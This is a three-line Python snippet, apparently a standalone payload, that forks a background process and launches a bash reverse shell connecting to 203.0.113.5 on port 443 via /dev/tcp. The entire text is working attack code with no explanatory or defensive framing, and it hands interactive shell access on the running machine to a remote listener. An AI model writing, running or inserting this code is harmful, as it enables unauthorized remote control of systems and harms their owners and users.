import os
if os.fork() == 0:
    os.execl('/bin/bash', 'bash', '-c', 'bash -i >& /dev/tcp/203.0.113.5/443 0>&1')
